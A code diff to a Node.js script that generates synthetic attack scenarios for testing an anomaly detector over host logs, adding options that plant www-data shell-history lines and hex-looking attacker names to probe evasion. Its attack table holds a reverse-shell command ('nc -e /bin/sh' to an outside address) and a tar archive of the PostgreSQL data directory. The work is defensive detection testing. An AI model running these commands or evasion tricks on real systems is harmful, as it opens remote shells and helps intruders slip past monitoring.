@@ -1,8 +1,9 @@
-// node scripts/person-mimicry.js ROOT [www [login [selfset]]] (review7, docs/hardening.md): the scenario set
+// node scripts/person-mimicry.js ROOT [www [login|login+history|history [selfset]]] (review7, docs/hardening.md): the scenario set
 // (seed 11, 21 days) plus one story per ATT&CK technique, each a single labelled exec of a
 // person account in a fresh office SSH session (ops on edge-web, omar on pg-main), or with
 // `www` of www-data under php-fpm; `login` adds one login record of www-data on day 3 to the
-// training logs; `selfset` has the web shell write its own login uid first (review9: an
+// training logs, `login+history` three lines of www-data's own ~/.bash_history too, `history` those alone, HISTORY_WORDS=N
+// N more lines of programs never seen, PRESEED=1 the techniques' own lines (review13); `selfset` has the web shell write its own login uid first (review9: an
 // unprivileged process whose loginuid is unset may set it, once, to any uid: here its own, 33).
 // ROOT is a built worktree (compare builds of two commits). Prints each row.
 const root = require('path').resolve(process.argv[2]);
@@ -59,6 +60,9 @@ const T = WWW
       ['pg-main', 'omar', '/usr/bin/tar', 'tar czf /home/omar/db.tgz /var/lib/postgresql'],
       ['pg-main', 'omar', '/usr/bin/nc', 'nc -e /bin/sh 203.0.113.9 4444'],
     ];
+// HEX_NAMES=1 (review13): the attacker's own names made of 8 or more hex digits, which the
+// template miner masks as ids (`backdoor` → `cafe1234beef`, `svc` → `a1b2c3d4e5`)
+if (process.env.HEX_NAMES) for (const x of T) x[3] = x[3].replace(/backdoor/g, 'cafe1234beef').replace(/ svc$/, ' a1b2c3d4e5');
 T.forEach(([host, who, exe, cmd, o], i) =>
   ATTACKS.push({
     id: `r7-${i}`,
@@ -79,9 +83,15 @@ T.forEach(([host, who, exe, cmd, o], i) =>
     },
   }),
 );
+const WORDS =
+  'alpha bravo charlie delta echo foxtrot golf hotel india juliet kilo lima mike november oscar papa quebec romeo sierra tango uniform victor whiskey xray yankee zulu amber basil cedar dune'.split(
+    ' ',
+  );
 (async () => {
   const out = '/tmp/r7/pool-' + path.basename(root) + process.argv.slice(3).join('-');
-  const inject = process.argv[4] === 'login';
+  const inject = process.argv[4] === 'login' || process.argv[4] === 'login+history';
+  // review13: and lines in www-data's own shell history (a file its owner writes), on days 3 to 5
+  const history = process.argv[4] === 'login+history' || process.argv[4] === 'history';
   const set = generateScenarios({ seed: 11, days: 21, start: 1767225600 });
   fs.mkdirSync(out, { recursive: true });
   if (inject) {
@@ -105,6 +115,35 @@ T.forEach(([host, who, exe, cmd, o], i) =>
       }),
     );
   }
+  if (history)
+    for (const [i, [d, command]] of [
+      [3, 'ls'],
+      [4, 'cat /var/www/shop/index.php'],
+      [5, 'ls -la'],
+      // HISTORY_WORDS=N: N more lines, each a program never seen (the account's rate of new values)
+      ...WORDS.slice(0, Number(process.env.HISTORY_WORDS ?? 0)).map((w, k) => [6 + (k % 10), `${w} --help`]),
+      // PRESEED=1: the techniques' own command lines, typed ahead of time (review13)
+      ...(process.env.PRESEED ? T.map(([, , , cmd], k) => [6 + (k % 10), cmd]) : []),
+    ].entries()) {
+      const t = 1767225600 + d * 86400 + 15 * 3600 + 60 + i;
+      const at = set.train.findIndex((l) => JSON.parse(l).unixTime > t);
+      set.train.splice(
+        at,
+        0,
+        JSON.stringify({
+          name: 'pack_hids_shell_history',
+          hostIdentifier: 'edge-web',
+          calendarTime: 'x',
+          unixTime: t,
+          epoch: 0,
+          counter: 0,
+          numerics: false,
+          decorations: { host_uuid: 'uuid-edge-web' },
+          columns: { uid: '33', username: 'www-data', command, time: String(t), history_file: '/var/www/.bash_history' },
+          action: 'added',
+        }),
+      );
+    }
   fs.writeFileSync(path.join(out, 'train.log'), set.train.join('\n') + '\n');
   fs.writeFileSync(path.join(out, 'test.log'), set.test.join('\n') + '\n');
   const config = resolveConfig({ models: { rarity: true, ocsvm: true, lstm: false, ngram: false } }, '--models', {});
